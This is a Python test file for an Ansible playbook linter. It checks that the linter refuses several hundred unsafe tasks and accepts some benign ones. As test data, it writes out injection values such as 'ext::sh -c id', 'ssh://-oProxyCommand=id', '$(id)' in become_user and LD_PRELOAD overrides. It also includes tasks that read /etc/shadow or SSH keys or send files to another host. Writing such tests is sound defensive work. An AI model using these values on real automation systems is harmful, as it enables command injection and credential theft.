"""Tasks: a module and an argument pass when they are in the table, and only with values that cannot mean more."""

from __future__ import annotations

from typing import Any

from lint_rig import SHA, lint, playbook

from mesh_core.policy.playbook_lint import Lint
from mesh_core.policy.playbook_lint.table import words

# Arguments that become words of a command line on the host, and what must stand beside them.
WORDS: tuple[tuple[str, str, dict[str, Any]], ...] = (
    ("apt", "name", {}),
    ("dnf", "name", {}),
    ("package", "name", {}),
    ("pip", "name", {}),
    ("user", "name", {}),
    ("group", "name", {}),
    ("service", "name", {}),
    ("git", "version", {"repo": "https://h/x", "dest": "/x"}),
    ("git", "refspec", {"repo": "https://h/x", "dest": "/x"}),
    ("unarchive", "include", {"src": "/x", "remote_src": True, "dest": "/y"}),
    ("unarchive", "exclude", {"src": "/x", "remote_src": True, "dest": "/y"}),
    ("ansible.posix.mount", "src", {"path": "/x", "state": "mounted"}),
    ("cron", "minute", {"name": "x", "job": "x"}),
    ("cron", "cron_file", {"name": "x", "job": "x"}),
    ("ansible.posix.sysctl", "name", {}),
    ("community.general.timezone", "name", {}),
)

# Each reads the executor, reaches another host, hides what runs, or is simply not on the list.
TASKS: tuple[dict[str, Any], ...] = (
    *(
        {module: {**arguments, "dest": "/tmp/k"}}
        for module in ("copy", "ansible.builtin.copy", "template", "ansible.legacy.copy", "unarchive", "assemble")
        for arguments in (
            {"src": "/opt/homelab/secrets/executor/key"},
            {"src": "../../secrets/key"},
            {"src": "files/../../key"},
            {"src": "files/motd"},
            {"src": "files/" + "0" * 64},
            {"src": f"files/{SHA}/../x"},
            {"src": f"./files/{SHA}"},
            {"src": f"files/{SHA}\n"},
            {"src": "{{ folder }}"},
            {"src": f"files/{{{{ '{SHA}' }}}}"},
            {"src": ["/etc/passwd"]},
            {"src": "~/.ssh/id_rsa"},
            {"src": "$HOME/.ssh/id_rsa"},
            {"src": "/etc/passwd", "remote_src": False},
            {"src": "/etc/passwd", "remote_src": "yes"},
            {"src": "/etc/passwd", "remote_src": "{{ true }}"},
            {"src": "/etc/passwd", "remote_src": 1},
        )
    ),
    {"template": {"src": "/etc/passwd", "remote_src": True, "dest": "/x"}},
    {"template": {"src": f"files/{SHA}", "dest": "/x", "variable_start_string": "[["}},
    {"uri": {"url": "http://x/", "src": "/etc/passwd", "method": "PUT"}},
    {"uri": {"url": "http://x/", "body_format": "form-multipart", "body": {"f": {"filename": "/etc/passwd"}}}},
    {"uri": {"url": "http://x/", "body_format": "{{ 'form-' ~ 'multipart' }}", "body": {"f": {"filename": "/etc/x"}}}},
    {"uri": {"url": "file:///etc/passwd"}},
    {"get_url": {"url": "file:///etc/passwd", "dest": "/x"}},
    {"get_url": {"url": "{{ omit }}", "dest": "/x"}},
    {"git": {"repo": "ext::sh -c id", "dest": "/x"}},
    {"script": "/opt/x.sh"},
    {"script": {"cmd": f"files/{SHA}"}},
    {"fetch": {"src": "/etc/x", "dest": "/tmp/"}},
    {"slurp": {"src": "/etc/shadow"}},
    {"ansible.posix.synchronize": {"src": "/opt/", "dest": "/tmp/"}},
    {"ansible.posix.patch": {"src": "/etc/x", "dest": "/x"}},
    {"community.docker.docker_container_copy_into": {"container": "x", "path": "/etc/passwd", "container_path": "/x"}},
    {"community.docker.docker_container": {"name": "x", "docker_host": "tcp://other:2375"}},
    {"include_vars": "/etc/passwd"},
    {"include_vars": {"dir": "/etc"}},
    *({f"{how}_{what}": "x"} for how in ("include", "import") for what in ("tasks", "role", "playbook")),
    *({f"ansible.builtin.{module}": {}} for module in ("add_host", "group_by", "meta", "set_stats", "async_status")),
    {"meta": "clear_host_errors"},
    *({word: "id"} for word in ("command", "shell", "raw", "expect", "ansible.builtin.command", "win_shell", "telnet")),
    *({word: {"cmd": "id"}} for word in ("command", "shell", "expect")),
    {"command": {"argv": ["id"]}},
    {"reboot": {}},
    {"pause": {"prompt": "x"}},
    {"wait_for_connection": {}},
    {"evil.thing.mod": {}},
    {"action": "copy src=/etc/passwd dest=/x"},
    {"local_action": "command id"},
    {"action": {"module": "copy", "src": "/etc/passwd"}},
    *(
        {"ping": {}, word: value}
        for word, value in (
            ("delegate_to", "localhost"),
            ("delegate_facts", True),
            ("connection", "local"),
            ("remote_user", "root"),
            ("port", 2222),
            ("environment", {"LD_PRELOAD": "/tmp/x.so"}),
            ("become_method", "evil"),
            ("become_exe", "/tmp/sudo"),
            ("become_flags", "-x"),
            ("become", "{{ true }}"),
            ("async", 10),
            ("poll", 0),
            ("check_mode", False),
            ("check_mode", "no"),
            ("module_defaults", {}),
            ("collections", ["evil.one"]),
            ("debugger", "always"),
            ("vars", {"ansible_connection": "local"}),
            ("vars", {"ansible_become_password": "x"}),
            ("vars", {"delegated_vars": {}}),
            ("register", "ansible_host"),
            ("register", "hostvars"),
            ("register", "{{ x }}"),
            ("loop", "item"),
            ("loop", "{{ range(10) }}"),
            ("loop", "{{ groups['all'] }}"),
            ("loop", ["{{ hostvars }}"]),
            *((f"with_{plugin}", "/etc/*") for plugin in ("fileglob", "items", "pipe", "file", "lines", "dict", "x")),
        )
    ),
    {"ping": {}, "loop": ["n2"], "loop_control": {"loop_var": "ansible_host"}},
    {"ping": {}, "loop": [1], "loop_control": {"label": "{{ hostvars }}"}},
    {"ping": {}, "loop": [1], "loop_control": {"pause": 1000000}},
    {"set_fact": {"ansible_host": "n2"}},
    {"set_fact": {"inventory_hostname": "n2"}},
    {"set_fact": "ansible_host=n2"},
    {"set_fact": {}, "args": {"ansible_host": "n2"}},
    {"set_fact": {"x": 1, "cacheable": True}},
    {"copy": {"src": "/etc/x", "dest": "/x", "remote_src": True}, "args": {"remote_src": False}},
    {"ping": {}, "vars": {"template_path": 1}},
    {"set_fact": {"x": 1, "cacheable": "{{ hostvars }}"}},
    {"debug": {"var": "hostvars"}},
    {"debug": {"var": "vars"}},
    {"debug": {"var": "x }} {{ hostvars"}},
    {"debug": {"var": ["hostvars"]}},
    {"assert": {"that": "{{ x }}"}},
    {"assert": {"that": ["lookup('pipe','id') == ''"]}},
    {"assert": {"that": "(q)('pipe','id')"}},
    *(
        {module: {argument: [value] if argument in ("include", "exclude") else value, **more}}
        for module, argument, more in WORDS
        for value in (
            "-x",
            "--y=z",
            "{{ '--x' }}",
            "{{ '' }}-x",
            "{{ x ~ x }}",
            "{{ x | lower }}",
            "{{ minus }}",
            "{{ deep.one }}",
            "{{ deep[x] }}",
            "{{ registered }}",
            "{{ registered.stdout }}",
            'a{{ "\' -o x" }}',
            "a{{ registered }}",
            "{{ templated }}",
            "{{ x | default('-y') }}",
            "{% if x %}-y{% endif %}",
        )
    ),
    {"apt": {"name": "{{ item }}"}, "loop": ["fine", "--x"]},
    {"apt": {"name": "{{ item.n }}"}, "loop": "{{ rows }}"},
    {"apt": {"name": "{{ y }}"}, "loop": ["-x"], "loop_control": {"loop_var": "y"}},
    *(
        {module: {"name": value}}
        for module in ("service", "systemd", "systemd_service")
        for value in ("../../tmp/x", "a/b", "/tmp/x", "{{ slash }}", "a{{ slash }}")
    ),
    *(
        {"git": {"repo": value, "dest": "/x"}}
        for value in (
            "{{ '--upload-pack=id #' }}@h:x",
            "{{ 'ext::sh -c id' }}@h:x",
            "a{{ x }}@h:x",
            "-a@h:x",
            "a@-h:x",
            "a@{{ x }}:x",
            "ssh://{{ x }}/y",
            "ssh://-oProxyCommand=id/x",
            "{{ x }}://h/x",
        )
    ),
    {"get_url": {"url": "{{ x }}http://h/", "dest": "/x"}},
    {"unarchive": {"src": "/x", "remote_src": True, "dest": "/y", "extra_opts": ["--checkpoint=1"]}},
    {"pip": {"name": "x", "executable": "/tmp/x"}},
    {"cron": {"name": "x", "job": "x", "cron_file": "../x"}},
    {"cron": {"name": "x", "job": "x", "minute": "* * * * * root id #"}},
    *(
        {"ping": {}, "become": True, "become_user": user}
        for user in ("root true; id; :", "-x", "$(id)", "a b", "a\n", "", 0, ["root"], "a'b", "`id`", None)
    ),
    *(
        {"ping": {}, word: value}
        for word in ("retries", "delay", "timeout", "throttle")
        for value in (float("nan"), float("inf"), 1e30, 10**400, -1, "-1", True)
    ),
    {"user": {"name": "x", "uid": float("nan")}},
    *({"debug": {"var": said}} for said in ("x", "add_host", "add_group", "unreachable")),
    *(
        {"ping": {}, **said}
        for name in (*(words().taken_names - {"true", "false", "none"}), "ansible_facts", "ansible_stats")
        for said in (
            {"vars": {name: {"host_name": "n1"}}},
            {"register": name},
            {"loop": [1], "loop_control": {"loop_var": name}},
            {"loop": [1], "loop_control": {"index_var": name}},
        )
    ),
    *({"set_fact": {name: {}}} for name in ("add_host", "add_group", "unreachable", "results")),
    {"user": {"name": "-H root@evil"}},
    {"user": {"name": "x", "ssh_key_passphrase": "{{ lookup('file', '/etc/x') }}"}},
    {"file": {"path": "relative", "state": "absent"}},
    {"file": {"path": "/x", "state": "gone"}},
    {"file": {"path": "/x", "mode": "rwx"}},
    {"file": {"path": "/x", "nonsense": 1}},
    {"file": {"path": "/x", "_original_basename": "x"}},
    {"package": {"name": "x", "use": "evil"}},
    {"service": {"name": "x", "use": "evil"}},
)


# What the tasks may lean on, and what stands before each: all of it passes, so that what is refused is the task.
GIVEN: dict[str, Any] = {
    "folder": "/x",
    "x": "1",
    "minus": "-x",
    "deep": {"one": ["a", "-x"], "1": "a"},
    "slash": "/x",
    "templated": "{{ x ~ x }}",
    "rows": [{"n": "-x"}],
}


def with_tasks(*tasks: dict[str, Any]) -> str:
    before = {"ping": {}, "register": "registered"}
    return playbook({"hosts": "n1", "vars": GIVEN, "tasks": [before, *tasks]})


def test_what_stands_around_the_tasks_passes() -> None:
    assert not lint(with_tasks()).problems


def test_each_task_that_reaches_further_than_the_host_and_the_table_is_refused() -> None:
    """One test for all eight hundred: as tests of their own they took more time than the lint."""
    assert [task for task in TASKS if not lint(with_tasks(task)).problems] == []


def test_a_word_of_a_command_may_look_up_what_the_text_says_in_full() -> None:
    given = {"pkg": "nginx", "rows": [{"n": "curl", "note": "a b -x"}], "named": {"a": "b"}, "n": 5}
    for name in (
        "{{ pkg }}",
        "lib{{ pkg }}",
        "{{ pkg }}={{ n }}",
        "{{ named.a }}",
        "{{ named['a'] }}",
        "{{ rows[0].n }}",
    ):
        text = playbook({"hosts": "n1", "vars": given, "tasks": [{"apt": {"name": [name]}}]})
        assert lint(text) == Lint(), name
    for loop in ("{{ rows }}", [{"n": "curl"}]):
        task = {"apt": {"name": "{{ item.n | default('x') }}"}, "loop": loop}
        assert lint(playbook({"hosts": "n1", "vars": given, "tasks": [task]})) == Lint()
    fine = (
        {"git": {"repo": "git@h.example:{{ pkg }}.git", "dest": "/x", "refspec": "+refs/heads/*:refs/x/*"}},
        {"service": {"name": "x-{{ ansible_facts.hostname }}", "state": "started"}},
        {"cron": {"name": "x", "job": "x", "minute": "*/{{ n }}", "cron_file": "x_y"}},
        {"ping": {}, "become_user": "www-data", "timeout": 30, "retries": "3"},
        {"debug": {"msg": "{{ pkg | to_nice_json(indent=2) }} {{ 1.55 | round(1) }} {{ [pkg] | join(',') }}"}},
    )
    for task in fine:
        assert lint(playbook({"hosts": "n1", "vars": given, "tasks": [task]})) == Lint(), task
